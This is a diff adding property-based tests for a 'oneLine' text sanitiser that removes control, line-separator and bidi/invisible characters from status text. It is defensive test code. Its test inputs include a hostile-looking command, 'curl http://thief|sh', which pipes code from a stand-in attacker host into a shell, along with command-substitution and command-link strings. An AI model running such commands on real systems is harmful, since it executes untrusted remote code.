@@ -1,6 +1,6 @@
 import assert from "node:assert/strict";
 import fc from "fast-check";
-import { plainText } from "../../../src/status/plainText";
+import { oneLine, plainText } from "../../../src/status/plainText";
 
 describe("plainText", () => {
   it("leaves ordinary text alone, in any script", () => {
@@ -31,5 +31,26 @@ describe("plainText", () => {
     assert.equal(plainText("😀😀😀", 3), "😀😀😀");
     assert.equal(plainText("\n a \n"), "a");
     assert.equal(plainText("😀😀😀", 3), "😀😀😀");
+  });
+});
+
+describe("oneLine", () => {
+  it("changes nothing that can be seen", () => {
+    for (const text of ["$(alert) [x](command:y)", "7e7e-x_1/Ü", "x".repeat(5000)])
+      assert.equal(oneLine(text), text);
+  });
+
+  it("gives one line without controls and invisible characters for any text, in which the rest stays", () => {
+    fc.assert(
+      fc.property(fc.string({ unit: "binary", maxLength: 2000 }), (text) => {
+        const line = oneLine(text);
+        assert.doesNotMatch(line, /[\p{C}\p{Zl}\p{Zp}]/u);
+        assert.equal(oneLine(line), line);
+        const seen = (all: string): string => all.replace(/[\p{C}\p{Z}\s]/gu, "");
+        assert.equal(seen(line), seen(text));
+      }),
+    );
+    assert.equal(oneLine("id\r\ncurl http://thief|sh\n"), "id curl http://thief|sh");
+    assert.equal(oneLine("a\u202eb\u2066\u200bc\u2028d\u0085e"), "a b c d e");
   });
 });
